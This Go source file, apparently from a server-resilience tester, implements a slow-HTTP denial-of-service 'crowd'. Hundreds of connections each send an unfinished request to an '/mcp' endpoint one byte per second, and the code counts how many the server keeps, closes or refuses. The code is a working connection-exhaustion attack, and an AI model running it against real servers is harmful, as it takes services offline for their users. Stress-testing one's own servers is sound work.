package main

import (
	"context"
	"crypto/tls"
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

const (
	dribble     = time.Second      // between two octets
	comeBack    = 10 * time.Second // from a connection's end to the next, on average; sooner, it would be a flood, and not slow
	dialsAtOnce = 256
)

// crowd is many connections, each as slow as a server lets it be.
type crowd struct {
	host   string
	secure bool
	tls    *tls.Config

	dials                 chan struct{} // holds a value for each dial under way
	size                  int
	open, closed, refused atomic.Int64
}

// crowdReport is how the crowd fared.
type crowdReport struct {
	Connections int   `json:"connections"`
	Open        int64 `json:"open"`    // at the end
	Closed      int64 `json:"closed"`  // by the server
	Refused     int64 `json:"refused"` // could not be opened
}

func newCrowd(host string, secure bool, c *tls.Config) *crowd {
	return &crowd{host: host, secure: secure, tls: c, dials: make(chan struct{}, dialsAtOnce)}
}

// start opens n connections and returns when each has been tried once.
func (c *crowd) start(ctx context.Context, n int) (stop func()) {
	ctx, cancel := context.WithCancel(ctx)
	c.size = n
	var all, tried sync.WaitGroup
	tried.Add(n)
	for i := range n {
		all.Go(func() { c.member(ctx, i%2 == 0, sync.OnceFunc(tried.Done)) })
	}
	tried.Wait()
	return func() {
		cancel()
		all.Wait()
	}
}

func (c *crowd) report() *crowdReport {
	return &crowdReport{c.size, c.open.Load(), c.closed.Load(), c.refused.Load()}
}

// member keeps one connection slow, opening it again when it is closed.
func (c *crowd) member(ctx context.Context, header bool, tried func()) {
	defer tried()
	for ctx.Err() == nil {
		conn, err := c.dial(ctx)
		tried()
		if err != nil {
			c.refused.Add(1)
			pause(ctx)
			continue
		}
		c.open.Add(1)
		c.keep(ctx, conn, header)
		c.open.Add(-1)
		_ = conn.Close()
		pause(ctx)
	}
}

// pause ends after half to one and a half times comeBack, so that the crowd does
// not come back all at once. Its caller sees whether ctx has ended.
func pause(ctx context.Context) { _ = sleep(ctx, comeBack/2+rand.N(comeBack)) }

func (c *crowd) dial(ctx context.Context) (net.Conn, error) {
	c.dials <- struct{}{}
	defer func() { <-c.dials }()
	ctx, cancel := context.WithTimeout(ctx, comeBack)
	defer cancel()
	if c.secure {
		return (&tls.Dialer{Config: c.tls}).DialContext(ctx, "tcp", c.host)
	}
	return (&net.Dialer{}).DialContext(ctx, "tcp", c.host)
}

// keep sends octet by octet until the server has enough of it.
func (c *crowd) keep(ctx context.Context, conn net.Conn, header bool) {
	start := "POST /mcp HTTP/1.1\r\nHost: " + c.host + "\r\nContent-Type: application/json\r\n"
	if header {
		start += "X-Slow: "
	} else {
		start += "Content-Length: 100000\r\n\r\n{"
	}
	for text := start; ; text = " " {
		if _, err := conn.Write([]byte(text)); err != nil {
			c.closed.Add(1)
			return
		}
		if sleep(ctx, dribble) != nil {
			return
		}
	}
}
